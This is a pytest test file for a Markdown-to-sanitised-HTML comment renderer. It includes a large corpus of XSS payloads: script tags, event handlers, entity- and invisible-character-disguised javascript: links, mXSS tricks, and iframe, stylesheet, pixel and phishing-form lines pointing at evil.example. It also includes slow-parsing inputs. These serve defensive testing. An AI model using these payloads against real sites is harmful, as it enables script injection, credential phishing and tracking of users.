"""Comment rendering: Markdown in, sanitised HTML out (no Flask involved)."""

import html
import logging
import re
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest

from discussions import rendering
from discussions.rendering import ALLOWED_TAGS, MAX_MARKDOWN_CHARS, POLICY_VERSION, render_markdown

REL = 'rel="nofollow noopener noreferrer"'

# Attributes that may appear on any tag of a rendered comment (`rel` is added by the sanitiser).
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "align"}
FORBIDDEN_MARKUP = ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<textarea",
                    "<svg", "<math", "<img", "<style", "<link", "<meta", "<base", "<body", "<details",
                    "<div", "<noscript", "<frame")
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
# What a browser ignores in a URL before deciding on its scheme (WHATWG URL parser: leading and
# trailing C0 controls and spaces, tab and newlines anywhere), plus invisible format characters.
URL_IGNORED = re.compile("^[\x00-\x20]+|[\x00-\x20]+$|[\t\n\r\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
# A start tag with its attributes, values quoted or not; end tags.
VALUE = r"""(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?"""
START_TAG = re.compile(r"""<[a-zA-Z][^\s/>]*((?:\s+[^\s"'=/>]+""" + VALUE + r""")*)\s*/?>""")
ATTRIBUTE_NAME = re.compile(r"""\s([^\s"'=/>]+)""" + VALUE)
END_TAG = re.compile(r"</[a-zA-Z][a-zA-Z0-9]*\s*>")


class _TagCollector(HTMLParser):
    """Collect the (tag, attributes) pairs of an HTML fragment, values unescaped."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_safe(output):
    """Fail unless the HTML carries no executable or fetching content."""
    lowered = output.lower()
    for marker in FORBIDDEN_MARKUP:
        assert marker not in lowered, marker
    # Every "<" left must open a real tag (text is escaped); no tag may carry an on* attribute.
    assert "<" not in END_TAG.sub("", START_TAG.sub("", output))
    for tag in START_TAG.finditer(output):
        for name in ATTRIBUTE_NAME.findall(tag.group(1)):
            assert not re.fullmatch(r"on\w+", name, re.IGNORECASE), tag.group()
    assert not BIDI_CONTROLS.search(output) and "\x00" not in output
    collector = _TagCollector()
    collector.feed(output)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES and not name.startswith("on"), name
            if name in ("href", "src"):
                url = URL_IGNORED.sub("", html.unescape(value or "")).lower()
                for scheme in ("javascript:", "vbscript:", "data:"):
                    assert scheme not in url, value
                explicit = re.match(r"([a-z][a-z0-9+.-]*):", url)
                assert explicit is None or explicit.group(1) in ("http", "https", "mailto"), value


XSS_PAYLOADS = {
    # Script tags.
    "script": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-split-lines": "<script\n>alert(1)</script\n>",
    "script-split-paragraphs": "<script>\n\nalert(1)\n\n</script>",
    "script-in-code-span": "`<script>alert(1)</script>`",
    "script-in-fenced-code": "```html\n<script>alert(1)</script>\n```",
    "script-in-indented-code": "    <script>alert(1)</script>",
    # Event handlers.
    "a-onmouseover": '<a onmouseover="alert(1)">survol</a>',
    "a-href-and-onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "div-onclick": '<div onclick="alert(1)">clic</div>',
    "body-onload": "<body onload=alert(1)>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "svg-onload": "<svg onload=alert(1)><circle r=10 /></svg>",
    "markdown-title-breakout": '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "markdown-after-link": '[x](https://ok.example)"onmouseover="alert(1)',
    "autolink-quote-breakout": '<https://ok.example/" onmouseover="alert(1)>',
    # javascript: links, plain and disguised.
    "md-javascript": "[x](javascript:alert(1))",
    "md-javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-javascript-tab-entity": "[x](jav&#x09;ascript:alert(1))",
    "md-javascript-decimal-entity": "[x](&#106;avascript:alert(1))",
    "md-javascript-named-entity": "[x](javascript&colon;alert(1))",
    "md-javascript-leading-spaces": "[x](  javascript:alert(1))",
    "md-javascript-leading-newline": "[x](\njavascript:alert(1))",
    "md-javascript-angle-brackets": "[x](<javascript:alert(1)>)",
    "md-javascript-with-title": '[x](javascript:alert(1) "titre")',
    "md-javascript-literal-tab": "[x](java\tscript:alert(1))",
    "md-javascript-nul": "[x](java\x00script:alert(1))",
    "md-javascript-zero-width": "[x](java\u200bscript:alert(1))",
    "md-javascript-bidi-entity": "[x](java&#x202E;script:alert(1))",
    "md-javascript-bidi-literal": "[x](java\u202escript:alert(1))",
    "md-javascript-in-list-and-quote": "- [x](javascript:alert(1))\n\n> [y](javascript:alert(1))",
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "html-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "html-javascript-hex-entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "reference-javascript": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "reference-short-javascript": "[evil]\n\n[evil]: JAVASCRIPT:alert(1)",
    "autolink-javascript": "<javascript:alert(1)>",
    # data: URLs.
    "md-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-data-svg": "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "reference-image-data": "![x][p]\n\n[p]: data:image/png;base64,AAAA",
    # Frames, plugins, embedded documents.
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="https://evil.example/"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="javascript:alert(1)">',
    # CSS.
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Markdown images: nothing may be fetched without a click.
    "image-tracking-pixel": "![x](https://evil.example/pixel.gif)",
    "image-javascript": "![x](javascript:alert(1))",
    "image-in-link": "[![x](https://evil.example/pixel.gif)](https://ok.example/)",
    # Comments, CDATA and parser-differential (mXSS) tricks.
    "html-comment": "<!-- <script>alert(1)</script> -->",
    "html-comment-unclosed": "<!--<img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "math-mtext-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    # Page-level hijacking.
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "form-phishing": ('<form action="https://evil.example/"><input name="mdp" type="password">'
                      "<button>Valider</button></form>"),
    # Template syntax, invisible characters.
    "jinja-expression": "{{ 7*7 }} {{ config }}",
    "jinja-statement": "{% debug %}{% for x in y %}",
    "bidi-override": "facture_\u202egnp.exe",
    "bidi-isolates": "\u2066\u2067\u2068a\u2069 \u202a\u202b\u202cb\u202d",
    "bidi-entities": "&#x202E;abc&#8238;",
    "zero-width": "ja\u200bva\u2060sc\ufeffript",
    "nul-bytes": "<scr\x00ipt>alert(1)</script>\x00",
}


@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_payload_renders_without_executable_content(payload):
    assert_safe(render_markdown(payload))


RAW_HTML_PAYLOADS = {name: payload for name, payload in XSS_PAYLOADS.items() if payload.startswith("<")}


@pytest.mark.parametrize("payload", RAW_HTML_PAYLOADS.values(), ids=RAW_HTML_PAYLOADS.keys())
def test_sanitiser_alone_also_neutralises_raw_html(payload):
    # Defence in depth: even if the Markdown stage passed raw HTML through, the allowlist holds.
    assert_safe(rendering._CLEANER.clean(payload))


def test_the_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("unsafe", [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="ftp://example.org/">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<p\nonclick=alert(1)>x</p>',
    '<p style="color: red">x</p>',
    "<img src=x>",
    "<iframe srcdoc=x></iframe>",
    "<p>\u202e</p>",
    "<span>x</span>",
])
def test_the_safety_check_itself_rejects_unsafe_html(unsafe):
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


def test_raw_html_is_shown_as_text_not_interpreted():
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert render_markdown("Bonjour <prénom>,") == "<p>Bonjour &lt;prénom&gt;,</p>"


@pytest.mark.parametrize("payload", [
    "[x](javascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java&#x202E;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
])
def test_forbidden_link_targets_keep_the_text_but_lose_the_target(payload):
    assert render_markdown(payload) == f"<p><a {REL}>x</a></p>"


def test_images_become_links_so_nothing_is_fetched_without_a_click():
    assert render_markdown('![graphique](https://ok.example/g.png "Titre")') == (
        f'<p><a href="https://ok.example/g.png" title="Titre" {REL}>graphique</a></p>')
    assert render_markdown("[![logo](https://ok.example/l.png)](https://ok.example/)") == (
        f'<p><a href="https://ok.example/" {REL}>logo</a></p>')


def test_jinja_looking_text_stays_literal():
    assert render_markdown("{{ 7*7 }}") == "<p>{{ 7*7 }}</p>"
    assert render_markdown("{% debug %} {{ config }}") == "<p>{% debug %} {{ config }}</p>"


def test_bidi_controls_are_removed_even_when_written_as_character_references():
    assert render_markdown("facture_\u202egnp.exe") == "<p>facture_gnp.exe</p>"
    assert render_markdown("a&#x202E;b&#8294;c") == "<p>abc</p>"


def test_zero_width_spaces_and_nul_are_removed_but_emoji_joiners_kept():
    assert render_markdown("con\u200bseil\x00ler") == "<p>conseiller</p>"
    advisor = "\U0001f469\u200d\U0001f4bc"  # woman office worker: needs the zero-width joiner
    assert render_markdown(advisor) == f"<p>{advisor}</p>"


def test_a_one_megabyte_body_renders_safely():
    body = ("Un paragraphe **gras** avec [un lien](https://ok.example/) et <script>alert(1)</script>.\n\n"
            "[x](javascript:alert(1)) ![p](https://evil.example/p.gif) \u202e[[[[(((\n\n") * 7000
    body = body[:1_000_000]
    started = time.perf_counter()
    output = render_markdown(body)
    elapsed = time.perf_counter() - started
    assert_safe(output)
    assert "Un paragraphe" in output
    assert elapsed < 5, elapsed


def test_a_one_megabyte_run_of_brackets_renders_safely():
    output = render_markdown("[" * 1_000_000)
    assert_safe(output)
    assert output.count("[") == 1_000_000


def test_text_beyond_the_markdown_limit_is_escaped_plain_text():
    text = "**pas gras** <b>x</b>\nligne\n\nparagraphe " + "a" * MAX_MARKDOWN_CHARS
    output = render_markdown(text)
    assert output.startswith("<p>**pas gras** &lt;b&gt;x&lt;/b&gt;<br>\nligne</p>\n<p>paragraphe aaa")


def test_too_deep_nesting_falls_back_to_plain_text(caplog):
    with caplog.at_level(logging.WARNING, logger="discussions.rendering"):
        output = render_markdown("1. " * 6_000)
    assert_safe(output)
    assert output.startswith("<p>1. 1. 1.")
    assert "RecursionError" in caplog.text


PATHOLOGICAL = {
    # Each took from 10 s to over a minute with stock Python-Markdown link parsing.
    "open-brackets": "[",
    "unclosed-targets": "[a](",
    "empty-unclosed-targets": "[](",
    "nested-targets": "[a](((",
    "nested-brackets": "[[]",
    "many-links": "[lien](https://ok.example/) ",
    "many-images": "![i](https://ok.example/i.png) ",
}


@pytest.mark.parametrize("unit", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_a_20000_character_comment_of_link_syntax_renders_quickly(unit):
    text = (unit * (20_000 // len(unit) + 1))[:20_000]
    started = time.perf_counter()
    output = render_markdown(text)
    elapsed = time.perf_counter() - started
    assert_safe(output)
    assert elapsed < 2, elapsed


def test_links_keep_their_target_and_get_rel():
    assert render_markdown("Voir [la fiche](https://ok.example/fiche?a=1&b=2).") == (
        f'<p>Voir <a href="https://ok.example/fiche?a=1&amp;b=2" {REL}>la fiche</a>.</p>')
    assert render_markdown('[CEP](http://ok.example/ "Conseil en évolution")') == (
        f'<p><a href="http://ok.example/" title="Conseil en évolution" {REL}>CEP</a></p>')
    assert render_markdown("<https://ok.example/>") == (
        f'<p><a href="https://ok.example/" {REL}>https://ok.example/</a></p>')


def test_mailto_and_relative_links_are_allowed():
    assert render_markdown("[écrire](mailto:conseil@ok.example)") == (
        f'<p><a href="mailto:conseil@ok.example" {REL}>écrire</a></p>')
    assert render_markdown("[la fiche](/fiches/premier-entretien/)") == (
        f'<p><a href="/fiches/premier-entretien/" {REL}>la fiche</a></p>')


def test_emphasis_and_line_breaks():
    assert render_markdown("**gras** et *italique*\nligne suivante") == (
        "<p><strong>gras</strong> et <em>italique</em><br>\nligne suivante</p>")


def test_lists():
    assert render_markdown("- un\n- deux") == "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>"
    assert render_markdown("1. un\n2. deux") == "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>"
    assert render_markdown("3. trois\n4. quatre") == '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>'


def test_code_keeps_markup_escaped():
    assert render_markdown("```python\nif a < b and c > d:\n    print('&')\n```") == (
        "<pre><code>if a &lt; b and c &gt; d:\n    print('&amp;')\n</code></pre>")
    assert render_markdown("Tapez `<Entrée>`") == "<p>Tapez <code>&lt;Entrée&gt;</code></p>"


def test_french_text_is_unchanged():
    text = "Élodie a été reçue à l'entretien : ça s'est très bien passé — « formidable » ! Où ? Déjà !"
    assert render_markdown(text) == f"<p>{text}</p>"


def test_blockquote():
    assert render_markdown("> Une bénéficiaire m'a dit :\n> « merci »") == (
        "<blockquote>\n<p>Une bénéficiaire m'a dit :<br>\n« merci »</p>\n</blockquote>")


def test_headings_are_demoted_below_the_page_structure():
    assert render_markdown("# Un\n\n## Deux\n\n### Trois\n\n#### Quatre") == (
        "<h4>Un</h4>\n<h5>Deux</h5>\n<h6>Trois</h6>\n<h6>Quatre</h6>")


def test_tables_and_rules():
    assert render_markdown("| Dispositif | Durée |\n|:--|--:|\n| PTP | 1 an |\n\n---") == (
        '<table>\n<thead>\n<tr>\n<th align="left">Dispositif</th>\n<th align="right">Durée</th>\n</tr>\n'
        '</thead>\n<tbody>\n<tr>\n<td align="left">PTP</td>\n<td align="right">1 an</td>\n</tr>\n'
        "</tbody>\n</table>\n<hr>")


def test_output_is_deterministic_across_calls_and_threads():
    text = "# Titre\n\n**gras** [lien](https://ok.example/) ![i](https://ok.example/i.png)\n\n- a\n- b\n\n" * 20
    expected = render_markdown(text)
    assert render_markdown(text) == expected
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert set(pool.map(render_markdown, [text] * 32)) == {expected}


def test_policy_version_is_an_int():
    assert isinstance(POLICY_VERSION, int) and not isinstance(POLICY_VERSION, bool)
    assert POLICY_VERSION >= 1
